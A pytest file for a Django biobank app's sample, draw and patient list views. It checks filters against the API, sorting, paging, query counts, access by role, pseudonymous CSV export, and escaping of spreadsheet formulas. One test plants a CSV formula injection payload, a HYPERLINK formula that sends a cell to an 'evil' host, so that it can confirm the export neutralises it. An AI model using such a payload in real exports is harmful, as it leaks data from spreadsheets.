"""The sample, draw and patient lists (issue 15): the API's filters and selectors, sort
by column, pages, the CSV export, identities never, a constant number of queries."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from rest_framework.test import APIClient

from biobank.models import Aliquot, PatientIdentity
from biobank.views.lists import PAGE_SIZE

from ..factories import AliquotFactory, PatientFactory, SerumDrawFactory, TreatmentFactory
from .conftest import text

pytestmark = pytest.mark.django_db

SAMPLES = reverse("web:sample_find")
DRAWS = reverse("web:draw_list")
PATIENTS = reverse("web:patient_list")


@pytest.fixture
def cohort(db):
    """Three patients (one withdrawn, one female), a PRE and a POST draw each, two tubes
    a draw (one checked out)."""
    patients = [
        PatientFactory(study_id="L-003", age_at_enrolment=81, sex="F"),
        PatientFactory(study_id="L-001", age_at_enrolment=64),
        PatientFactory(
            study_id="L-002",
            age_at_enrolment=72,
            withdrawn_on=dt.date(2012, 1, 1),
            withdrawal_reason="asked",
        ),
    ]
    tubes = []
    for n, patient in enumerate(patients):
        treatment = TreatmentFactory(patient=patient, performed_on=dt.date(2010, 1, 10 + n))
        for timepoint in ("PRE", "POST"):
            draw = SerumDrawFactory(
                treatment=treatment,
                timepoint=timepoint,
                days_after_treatment=0 if timepoint == "PRE" else 7,
                drawn_at=dt.datetime(
                    2010, 1, 10 + n, 8 if timepoint == "PRE" else 9, tzinfo=dt.UTC
                ),
            )
            for k in (1, 2):
                tubes.append(
                    AliquotFactory(
                        barcode=f"{patient.study_id}-{timepoint}-{k:02d}",
                        draw=draw,
                        volume_ul=Decimal(100 + 10 * n + k),
                        status=Aliquot.Status.OUT if k == 2 else Aliquot.Status.STORED,
                        box=None if k == 2 else AliquotFactory.box.get_factory()(),
                        row=None if k == 2 else 1,
                        column=None if k == 2 else 1,
                    )
                )
    return patients, tubes


def listed(response, column: int = 0) -> list[str]:
    """The text of one column of the page's list, row by row."""
    import re

    body = response.content.decode().split("<tbody>")[1].split("</tbody>")[0]
    rows = re.findall(r"<tr>(.*?)</tr>", body, re.S)
    cells = [re.findall(r"<td[^>]*>(.*?)</td>", row, re.S) for row in rows]
    return [re.sub(r"<[^>]+>|\s+", " ", row[column]).strip() for row in cells if len(row) > 1]


def api(user, path: str, query: str) -> dict:
    client = APIClient()
    client.force_authenticate(user)
    response = client.get(f"{path}?{query}")
    assert response.status_code == 200, response.content
    return response.json()


class TestSameAnswerAsTheApi:
    @pytest.mark.parametrize(
        "query",
        ["", "withdrawn=false", "age_min=70", "sex=F", "study_id=l-00&ordering=-age_at_enrolment"],
    )
    def test_patients(self, tech_client, technician, cohort, query):
        page = tech_client.get(PATIENTS + "?" + query)
        answer = api(technician, "/api/v1/patients/", query)
        assert listed(page) == [row["study_id"] for row in answer["results"]]

    @pytest.mark.parametrize(
        "query",
        ["", "timepoint=POST", "patient=L-002", "drawn_after=2010-01-11&ordering=-drawn_at"],
    )
    def test_draws(self, tech_client, technician, cohort, query):
        page = tech_client.get(DRAWS + "?" + query)
        answer = api(technician, "/api/v1/draws/", query)
        expected = [
            (row["study_id"], row["drawn_at"][:16].replace("T", " ")) for row in answer["results"]
        ]
        assert list(zip(listed(page, 0), listed(page, 2), strict=True)) == expected

    @pytest.mark.parametrize(
        "query",
        [
            "",
            "status=out",
            "patient=L-001&timepoint=PRE",
            "min_volume_ul=115",
            "barcode=post&ordering=-barcode",
        ],
    )
    def test_samples(self, tech_client, technician, cohort, query):
        page = tech_client.get(SAMPLES + "?" + query)
        answer = api(technician, "/api/v1/aliquots/", query)
        assert listed(page) == [row["barcode"] for row in answer["results"]]
        assert listed(page)  # every query above selects some tubes

    def test_a_bad_filter_value_is_said_and_lists_nothing(self, tech_client, cohort):
        response = tech_client.get(PATIENTS, {"age_min": "old"})
        assert listed(response) == []
        assert "Enter a whole number" in text(response)


class TestSort:
    def test_a_column_header_sorts_and_again_reverses(self, tech_client, cohort):
        page = tech_client.get(PATIENTS)
        assert listed(page) == ["L-001", "L-002", "L-003"]
        html = page.content.decode()
        assert 'href="?ordering=age_at_enrolment"' in html
        by_age = tech_client.get(PATIENTS, {"ordering": "age_at_enrolment"})
        assert listed(by_age) == ["L-001", "L-002", "L-003"]
        assert 'aria-sort="ascending"' in by_age.content.decode()
        assert 'href="?ordering=-age_at_enrolment"' in by_age.content.decode()
        assert listed(tech_client.get(PATIENTS, {"ordering": "-age_at_enrolment"})) == [
            "L-003",
            "L-002",
            "L-001",
        ]

    def test_sorting_by_a_count_and_by_a_related_column(self, tech_client, cohort):
        by_volume = listed(tech_client.get(SAMPLES, {"ordering": "-volume_ul"}))
        assert by_volume[:2] == ["L-002-PRE-02", "L-002-POST-02"]  # 122 µl, barcode reversed too
        by_patient = listed(tech_client.get(SAMPLES, {"ordering": "study_id"}), 1)
        assert by_patient == sorted(by_patient)

    def test_an_unlisted_field_sorts_by_the_default(self, tech_client, cohort):
        page = tech_client.get(PATIENTS, {"ordering": "identity__full_name"})
        assert page.status_code == 200 and listed(page) == ["L-001", "L-002", "L-003"]

    def test_the_sort_keeps_the_filters(self, tech_client, cohort):
        html = tech_client.get(DRAWS, {"timepoint": "POST"}).content.decode()
        assert 'href="?timepoint=POST&amp;ordering=drawn_at"' in html


class TestPages:
    def test_pages_of_fifty_keep_filters_and_sort(self, tech_client, db):
        for n in range(PAGE_SIZE + 5):
            PatientFactory(study_id=f"PG-{n:03d}")
        first = tech_client.get(PATIENTS, {"ordering": "-study_id"})
        assert len(listed(first)) == PAGE_SIZE and listed(first)[0] == "PG-054"
        assert "page 1 of 2" in text(first)
        assert 'href="?ordering=-study_id&amp;page=2"' in first.content.decode()
        second = tech_client.get(PATIENTS, {"ordering": "-study_id", "page": 2})
        assert listed(second) == [f"PG-{n:03d}" for n in range(4, -1, -1)]
        assert listed(tech_client.get(PATIENTS, {"page": "999"})) == listed(
            tech_client.get(PATIENTS, {"page": 2})
        )

    @pytest.mark.parametrize("url", [SAMPLES, DRAWS, PATIENTS])
    def test_queries_do_not_grow_with_the_rows(self, tech_client, url):
        def queries() -> int:
            with CaptureQueriesContext(connection) as captured:
                response = tech_client.get(url)
            assert response.status_code == 200
            return len(captured)

        for _ in range(10):
            AliquotFactory()
        ten = queries()
        for _ in range(40):
            AliquotFactory()
        assert queries() == ten
        # session, user, their permissions (2), count, the page's keys, its rows
        assert ten == 7


class TestExport:
    def test_the_export_has_the_lists_filters_and_sort(self, tech_client, cohort):
        page = tech_client.get(SAMPLES, {"status": "stored", "ordering": "-barcode"})
        html = page.content.decode()
        assert 'href="/samples/export.csv?status=stored&amp;ordering=-barcode"' in html
        response = tech_client.get("/samples/export.csv?status=stored&ordering=-barcode")
        assert response.streaming and response["Content-Type"].startswith("text/csv")
        rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
        assert rows[0][:4] == ["barcode", "study_id", "timepoint", "status"]
        barcodes = [row[0] for row in rows[1:]]
        assert barcodes == sorted(barcodes, reverse=True) and len(barcodes) == 6
        assert {row[3] for row in rows[1:]} == {"stored"}
        assert rows[1][9] and rows[1][10] == "A1"  # box and position

    def test_a_formula_in_a_cell_is_neutralised(self, tech_client, db):
        draw = SerumDrawFactory(note='=HYPERLINK("http://evil/?"&A1)')
        AliquotFactory(barcode="=1+2", draw=draw)
        samples = b"".join(tech_client.get("/samples/export.csv").streaming_content).decode()
        assert list(csv.reader(io.StringIO(samples)))[1][0] == "'=1+2"
        draws = b"".join(tech_client.get("/draws/export.csv").streaming_content).decode()
        assert list(csv.reader(io.StringIO(draws)))[1][-1] == "'" + draw.note

    def test_patients_export_is_pseudonymous_even_for_a_curator(self, curator_client, cohort):
        PatientIdentity.objects.create(
            patient=cohort[0][0],
            full_name="Hanako Tanaka",
            hospital_number="H1234567",
            date_of_birth=dt.date(1940, 1, 1),
        )
        with CaptureQueriesContext(connection) as captured:
            body = b"".join(curator_client.get("/patients/export.csv").streaming_content).decode()
        assert "Hanako" not in body and "H1234567" not in body
        assert body.splitlines()[0].startswith("study_id,sex,age_at_enrolment")
        assert not any("patientidentity" in q["sql"].lower() for q in captured)


class TestScanBox:
    def test_a_partial_barcode_lists_the_tubes_containing_it(self, tech_client, cohort):
        response = tech_client.get(SAMPLES, {"barcode": "l-001-pre"})
        assert response.status_code == 200
        assert listed(response) == ["L-001-PRE-01", "L-001-PRE-02"]
        assert response.context["form"].errors == {}

    def test_an_exact_barcode_still_opens_the_tube(self, tech_client, cohort):
        tube = cohort[1][0]
        response = tech_client.get(SAMPLES, {"barcode": tube.barcode, "status": "out"})
        assert response.status_code == 302 and response["Location"].endswith(f"/{tube.pk}/")


class TestWhoSeesWhat:
    def test_a_technician_sees_no_identity_and_none_is_read(self, tech_client, cohort):
        PatientIdentity.objects.create(
            patient=cohort[0][0],
            full_name="Hanako Tanaka",
            hospital_number="H1234567",
            date_of_birth=dt.date(1940, 1, 1),
        )
        for url in (PATIENTS, DRAWS, SAMPLES):
            with CaptureQueriesContext(connection) as captured:
                page = tech_client.get(url).content.decode()
            assert "Hanako" not in page and "H1234567" not in page
            assert not any("patientidentity" in q["sql"].lower() for q in captured)

    def test_the_study_id_links_to_the_patient_page(self, tech_client, cohort):
        html = tech_client.get(PATIENTS).content.decode()
        assert f'href="{reverse("web:patient_detail", args=["L-001"])}"' in html

    @pytest.mark.parametrize(
        "url", [SAMPLES, DRAWS, PATIENTS, "/samples/export.csv", "/patients/export.csv"]
    )
    def test_an_analyst_may_not(self, analyst_client, url):
        assert analyst_client.get(url).status_code == 403

    def test_the_header_links_to_the_lists(self, tech_client, analyst_client):
        html = tech_client.get("/").content.decode()
        for url in (SAMPLES, DRAWS, PATIENTS):
            assert f'href="{url}"' in html
        assert 'href="/patients/"' not in analyst_client.get("/").content.decode()
